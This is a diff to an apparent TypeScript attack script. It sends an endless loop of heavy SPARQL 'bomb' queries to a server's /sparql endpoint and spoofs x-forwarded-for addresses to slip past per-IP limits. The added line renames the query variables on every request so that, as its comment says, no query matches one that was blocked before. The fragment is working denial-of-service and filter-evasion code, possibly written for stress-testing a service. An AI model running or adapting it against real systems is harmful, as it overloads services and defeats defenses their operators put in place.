@@ -109,7 +109,8 @@ async function attack(): Promise<void> {
   setInterval(() => console.log(JSON.stringify(met)), 500);
   const bomber = async (at: number): Promise<never> => {
     for (let n = 0; ; n++) {
-      const query = `${bombs[(at + n) % bombs.length]} # ${at} ${n}`;
+      // Other variables each time: none is the one that was stopped before.
+      const query = bombs[(at + n) % bombs.length]?.replaceAll(/\?(\w+)/g, `?$1_${at}_${n}`) ?? '';
       const status = await fetch(`${base}/sparql?${new URLSearchParams({ query })}`, {
         headers: { accept: 'text/csv', 'x-forwarded-for': `10.0.${n % 2}.${at}` },
       }).then(
